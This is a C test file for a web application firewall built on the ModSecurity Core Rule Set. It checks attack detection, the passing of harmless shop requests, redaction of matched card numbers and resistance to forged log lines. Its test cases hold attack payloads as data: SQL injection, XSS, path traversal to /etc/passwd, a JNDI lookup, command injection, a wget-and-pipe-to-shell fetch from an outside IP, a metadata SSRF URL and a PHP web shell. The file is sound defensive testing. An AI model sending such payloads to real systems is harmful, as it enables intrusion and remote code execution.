/* SPDX-License-Identifier: Apache-2.0 */
/* The engine with Debian's rule set, and the filter before it. tests/web/run_crs.py runs the rule set's own tests. */
#include <glib.h>
#include <glib/gstdio.h>
#include <string.h>

#include "parse/waf.h"
#include "parse/waf_filter.h"

static BhWaf *waf;
static BhWafFilter *filter;

static BhHttpMessage *request(const char *method, const char *target, const char *type, const char *body) {
        static const char agent[] = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36";
        static const char cookie[] = "sid=3fa9c2d17be04a11; theme=dark; _ga=GA1.2.1234567890.1700000000";
        BhHttpMessage *m = bh_http_message_new();

        m->version = 11;
        g_free(m->method);
        m->method = g_strdup(method);
        g_free(m->target);
        m->target = g_strdup(target);
        g_free(m->authority);
        m->authority = g_strdup("shop.example");
        bh_http_add_field(m, "Host", 4, "shop.example", 12);
        bh_http_add_field(m, "User-Agent", 10, agent, sizeof(agent) - 1);
        bh_http_add_field(m, "Accept", 6, "text/html", 9);
        bh_http_add_field(m, "Cookie", 6, cookie, sizeof(cookie) - 1);
        bh_http_add_field(m, "Referer", 7, "https://shop.example/list?page=2", 32);
        if (type) {
                g_autofree char *length = g_strdup_printf("%zu", strlen(body));

                bh_http_add_field(m, "Content-Type", 12, type, strlen(type));
                bh_http_add_field(m, "Content-Length", 14, length, strlen(length));
                g_byte_array_append(m->body, (const guint8 *) body, (guint) strlen(body));
        }
        return m;
}

static const BhWafMatch *find(const BhWafResult *r, guint rule) {
        for (guint i = 0; i < r->n_matches; i++)
                if (r->matches[i].rule == rule)
                        return &r->matches[i];
        return NULL;
}

static void attacks_are_found_and_wanted(void) {
        static const struct {
                const char *method, *target, *type, *body, *class;
        } cases[] = {
                { "GET", "/?id=1%27%20or%20%271%27=%271", NULL, NULL, "sqli" },
                { "GET", "/?q=<script>alert(1)</script>", NULL, NULL, "xss" },
                { "GET", "/?f=../../../../etc/passwd", NULL, NULL, "lfi" },
                { "GET", "/?x=$%7Bjndi:ldap://a/b%7D", NULL, NULL, "rce" },
                { "POST", "/", "application/x-www-form-urlencoded", "host=;cat+/etc/passwd", "rce" },
                { "POST", "/", "application/json", "{\"cmd\":\"; wget http://1.2.3.4/x | sh\"}", "rce" },
                { "GET", "/?u=http://169.254.169.254/latest/meta-data/", NULL, NULL, "rfi" },
                { "POST", "/up.php", "application/x-www-form-urlencoded", "x=<?php+system($_GET[1]);+?>", "php" },
        };

        for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
                g_autoptr(BhHttpMessage) m = request(cases[i].method, cases[i].target, cases[i].type, cases[i].body);
                g_autoptr(BhWafResult) r = bh_waf_judge(waf, m, NULL, "192.0.2.1", "192.0.2.2", 80);
                gboolean found = FALSE;

                for (guint k = 0; k < r->n_matches; k++)
                        found |= strcmp(r->matches[k].class, cases[i].class) == 0;
                if (!found || r->score < 5)
                        g_error("case %zu: no %s among %u matches with score %u", i, cases[i].class, r->n_matches, r->score);
                g_assert_true(bh_waf_filter_wants(filter, m, FALSE, NULL));
        }
}

/* What an ordinary shop's users send. */
static void harmless_requests_are_not_wanted(void) {
        static const char *const targets[] = { "/", "/index.html", "/static/app.3f2a1b.js", "/products?page=3&sort=price", "/api/v1/orders/550e8400-e29b-41d4-a716-446655440000", "/search?q=red+shoes", "/img/a%20b.png",
                                               "/api/items?since=2026-11-26T10:00:00Z", "/cart/add?id=7&qty=2", "/users/bob%40example", "/health" };

        for (gsize i = 0; i < G_N_ELEMENTS(targets); i++) {
                g_autoptr(BhHttpMessage) m = request("GET", targets[i], NULL, NULL);
                const char *why;

                if (bh_waf_filter_wants(filter, m, FALSE, &why))
                        g_error("%s is wanted: %s", targets[i], why);
        }
        g_autoptr(BhHttpMessage) form = request("POST", "/login", "application/x-www-form-urlencoded", "user=bob&password=Hunter2x"), json = request("POST", "/cart", "application/json", "{\"id\":7,\"note\":\"fast please\"}");
        g_assert_false(bh_waf_filter_wants(filter, form, FALSE, NULL));
        g_assert_false(bh_waf_filter_wants(filter, json, FALSE, NULL));
        g_autoptr(BhWafResult) r = bh_waf_judge(waf, form, NULL, "192.0.2.1", "192.0.2.2", 80);
        g_assert_cmpuint(r->score, ==, 0);
}

static void unusual_requests_are_wanted_by_strict_levels(void) {
        static const struct {
                const char *target, *name, *value;
        } cases[] = {
                { "/?x=a%20b", NULL, NULL }, { "/?x=1&x=2", NULL, NULL }, { "/", "Range", "bytes=0-1" }, { "/", "Connection", "keep-alive, close" }, { "/", "Accept-Charset", "x" }, { "/", "Host", "b" },
        };
        g_autoptr(BhHttpMessage) usual = request("GET", "/a?x=1&y=b", NULL, NULL), address = request("GET", "/", NULL, NULL);
        const char *why;

        g_assert_false(bh_waf_filter_wants(filter, usual, TRUE, &why));
        g_free(address->authority);
        address->authority = g_strdup("10.0.0.1:80");
        g_assert_true(bh_waf_filter_wants(filter, address, TRUE, &why));
        g_assert_cmpstr(why, ==, "form");
        for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
                g_autoptr(BhHttpMessage) m = request("GET", cases[i].target, NULL, NULL);

                if (cases[i].name)
                        bh_http_add_field(m, cases[i].name, strlen(cases[i].name), cases[i].value, strlen(cases[i].value));
                g_assert_true(bh_waf_filter_wants(filter, m, TRUE, NULL));
                g_assert_false(bh_waf_filter_wants(filter, m, FALSE, NULL));
        }
        g_autoptr(BhHttpMessage) extension = request("GET", "/a.bak", NULL, NULL);
        g_assert_true(bh_waf_filter_wants(filter, extension, FALSE, &why));
        g_assert_cmpstr(why, ==, "path");
}

static void what_cannot_be_read_is_wanted(void) {
        g_autoptr(BhHttpMessage) twice = request("GET", "/?x=%2527", NULL, NULL), xml = request("POST", "/", "text/xml", "<a/>"), odd = request("GET", "/", NULL, NULL), method = request("TRACK", "/", NULL, NULL);
        const char *why;

        g_assert_true(bh_waf_filter_wants(filter, twice, FALSE, &why));
        g_assert_cmpstr(why, ==, "query");
        g_assert_true(bh_waf_filter_wants(filter, xml, FALSE, &why));
        g_assert_cmpstr(why, ==, "body");
        odd->anomalies = BH_HTTP_LENGTHS;
        g_assert_true(bh_waf_filter_wants(filter, odd, FALSE, &why));
        g_assert_cmpstr(why, ==, "anomaly");
        g_assert_true(bh_waf_filter_wants(filter, method, FALSE, &why));
        g_assert_cmpstr(why, ==, "method");
}

static void matched_parts_are_redacted(void) {
        g_autoptr(BhHttpMessage) m = request("GET", "/?q=4111111111111111%27%20or%20%271%27=%271", NULL, NULL);
        g_autoptr(BhWafResult) r = bh_waf_judge(waf, m, NULL, "192.0.2.1", "192.0.2.2", 80);
        const BhWafMatch *match = find(r, 942100);

        g_assert_nonnull(match);
        g_assert_cmpuint(match->level, ==, 1);
        g_assert_cmpuint(match->score, ==, 5);
        g_assert_nonnull(strstr(match->matched, "ARGS:q"));
        g_assert_null(strstr(match->matched, "4111111111111111"));
}

/* A value that looks like the engine's own line gives no rule that did not match. */
static void lines_cannot_be_forged(void) {
        g_autofree char *target = g_strdup_printf("/?x=%%22%%5D%%20%%5Bfile%%20%%22%s/x.conf%%22%%5D%%20%%5Bid%%20%%22999999%%22%%5D%%20%%5Bmsg%%20%%22m%%22%%5D%%20%%5Bdata%%20%%22%%27or%%201=1--", BH_WAF_RULES_DIR);
        g_autoptr(BhHttpMessage) m = request("GET", target, NULL, NULL);
        g_autoptr(BhWafResult) r = bh_waf_judge(waf, m, NULL, "192.0.2.1", "192.0.2.2", 80);

        g_assert_cmpuint(r->n_matches, >, 0);
        g_assert_null(find(r, 999999));
        for (guint i = 0; i < r->n_matches; i++)
                g_assert_cmpuint(r->matches[i].level, >, 0); /* known to the rule files */
}

static void http2_requests_have_their_host(void) {
        g_autoptr(BhHttpMessage) m = bh_http_message_new();

        m->version = 20;
        g_free(m->method);
        m->method = g_strdup("GET");
        g_free(m->target);
        m->target = g_strdup("/");
        g_free(m->authority);
        m->authority = g_strdup("shop.example");
        bh_http_add_field(m, "user-agent", 10, "x", 1);
        bh_http_add_field(m, "accept", 6, "*/*", 3);
        g_autoptr(BhWafResult) r = bh_waf_judge(waf, m, NULL, "192.0.2.1", "192.0.2.2", 80);
        g_assert_null(find(r, 920280)); /* "Request Missing a Host Header" */
}

static void rules_that_are_not_there_are_an_error(void) {
        g_autoptr(GError) error = NULL;
        g_autofree char *dir = g_dir_make_tmp("bulkhead-waf-XXXXXX", NULL);
        BhWafConfig c = { .rules_dir = dir };

        g_assert_null(bh_waf_new(&c, &error));
        g_assert_nonnull(strstr(error->message, "modsecurity-crs"));
        g_clear_error(&error);
        g_assert_null(bh_waf_filter_new(dir, &error));
        g_assert_nonnull(error);
        g_assert_cmpint(g_rmdir(dir), ==, 0);
}

int main(int argc, char **argv) {
        BhWafConfig c = { .level = 2 };
        g_autoptr(GError) error = NULL;

        g_test_init(&argc, &argv, NULL);
        waf = bh_waf_new(&c, &error);
        g_assert_no_error(error);
        filter = bh_waf_filter_new(NULL, &error);
        g_assert_no_error(error);
        g_test_add_func("/waf/attacks-are-found-and-wanted", attacks_are_found_and_wanted);
        g_test_add_func("/waf/harmless-requests-are-not-wanted", harmless_requests_are_not_wanted);
        g_test_add_func("/waf/unusual-requests-are-wanted-by-strict-levels", unusual_requests_are_wanted_by_strict_levels);
        g_test_add_func("/waf/what-cannot-be-read-is-wanted", what_cannot_be_read_is_wanted);
        g_test_add_func("/waf/matched-parts-are-redacted", matched_parts_are_redacted);
        g_test_add_func("/waf/lines-cannot-be-forged", lines_cannot_be_forged);
        g_test_add_func("/waf/http2-requests-have-their-host", http2_requests_have_their_host);
        g_test_add_func("/waf/rules-that-are-not-there-are-an-error", rules_that_are_not_there_are_an_error);
        int result = g_test_run();
        bh_waf_free(waf);
        bh_waf_filter_free(filter);
        return result;
}
